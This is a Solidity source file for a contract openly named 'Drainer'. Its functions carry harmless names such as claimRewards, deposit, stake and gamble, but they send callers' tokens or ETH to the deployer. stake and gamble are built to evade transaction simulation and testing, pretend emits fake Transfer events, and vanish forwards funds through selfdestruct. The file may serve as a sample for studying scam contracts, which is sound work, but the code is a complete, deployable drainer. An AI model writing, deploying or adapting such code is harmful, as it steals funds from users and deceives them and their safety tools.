// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

interface IToken {
    function balanceOf(address owner) external view returns (uint256);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// Functions with harmless names that take more than they say.
contract Drainer {
    address payable public immutable thief = payable(msg.sender);

    event Transfer(address indexed from, address indexed to, uint256 value);

    /// Uses an allowance given long ago.
    function claimRewards(IToken token) external {
        token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender));
    }

    /// Takes the deposit and passes it on.
    function deposit() external payable {
        (bool ok,) = thief.call{value: msg.value}("");
        require(ok);
    }

    /// Gives the money back when it notices a dry run: there is nobody to collect the fees.
    function stake() external payable {
        address payable to = block.coinbase == address(0) ? payable(msg.sender) : thief;
        (bool ok,) = to.call{value: msg.value}("");
        require(ok);
    }

    /// Gives the money back on every other block.
    function gamble() external payable {
        address payable to = block.number % 2 == 0 ? payable(msg.sender) : thief;
        (bool ok,) = to.call{value: msg.value}("");
        require(ok);
    }

    /// Tells of a transfer that never was.
    function pretend(address from, uint256 amount) external {
        emit Transfer(from, msg.sender, amount);
    }

    /// Leaves everything to the thief by vanishing.
    function vanish() external payable {
        new Vanisher{value: msg.value}(thief);
    }
}

contract Vanisher {
    constructor(address payable heir) payable {
        selfdestruct(heir);
    }
}
